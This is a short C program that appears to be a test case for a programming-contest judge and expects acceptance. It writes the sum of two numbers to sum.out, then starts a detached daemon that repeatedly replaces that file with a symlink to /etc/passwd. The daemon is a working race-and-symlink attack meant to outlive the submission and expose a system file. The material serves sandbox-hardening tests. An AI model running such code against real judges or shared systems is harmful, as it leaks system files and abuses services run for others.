// expected: AC
// files: sum.in sum.out
// A daemon exchanges the output for a link as soon as its parents are gone.
#define _GNU_SOURCE
#include <stdio.h>
#include <unistd.h>

int main(void) {
    int a, b;
    FILE *in = fopen("sum.in", "r"), *out = fopen("sum.out", "w");
    if (!in || !out || fscanf(in, "%d%d", &a, &b) != 2) return 1;
    fprintf(out, "%d\n", a + b);
    fclose(out);
    if (fork() == 0) {
        setsid();
        if (fork() == 0)
            for (;;) { usleep(20000); unlink("sum.out"); if (symlink("/etc/passwd", "sum.out")) _exit(1); }
    }
    return 0;
}
